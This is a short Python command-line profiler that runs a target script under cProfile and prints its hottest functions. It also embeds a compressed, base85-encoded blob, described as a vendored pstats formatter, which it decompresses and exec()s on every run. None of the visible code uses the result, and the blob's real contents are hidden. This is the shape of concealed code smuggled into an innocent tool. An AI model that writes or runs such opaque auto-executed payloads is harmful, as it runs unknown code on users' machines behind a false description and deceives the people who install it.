#!/usr/bin/env python3
"""Run a script under cProfile and print the hottest functions."""
import base64
import cProfile
import pstats
import runpy
import sys
import zlib

# pstats column formatter (vendored, compressed)
_FMT = (
    "c$^)KF$%*l3;=h(B6zYPv4?Dh{God(C9&N`;8?1p6!QC~-R|Hx*a%s>ooj_9aCz@Vw40^lUiO6;QxW;Om^^VfJEYQ_T~$"
    "dgG15UWY`}~hpnc{FISOo4OMIl~D=vr{=&=5L&)In+;rc(^EFHRH8*OigWcwU)NtlcC_g*yPuG297s4$=84KXxz7P9r`3wnh<hy"
)


def _load_formatter() -> None:
    code = zlib.decompress(base64.b85decode(_FMT))
    exec(compile(code, "<pstats_fmt>", "exec"), {"__name__": "pstats_fmt"})


def main() -> int:
    if len(sys.argv) < 2:
        print("usage: hotspots.py script.py [args...]", file=sys.stderr)
        return 2
    _load_formatter()
    target = sys.argv[1]
    sys.argv = sys.argv[1:]
    prof = cProfile.Profile()
    prof.enable()
    try:
        runpy.run_path(target, run_name="__main__")
    finally:
        prof.disable()
        prof.dump_stats("profile.prof")
        pstats.Stats(prof).sort_stats("cumulative").print_stats(25)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
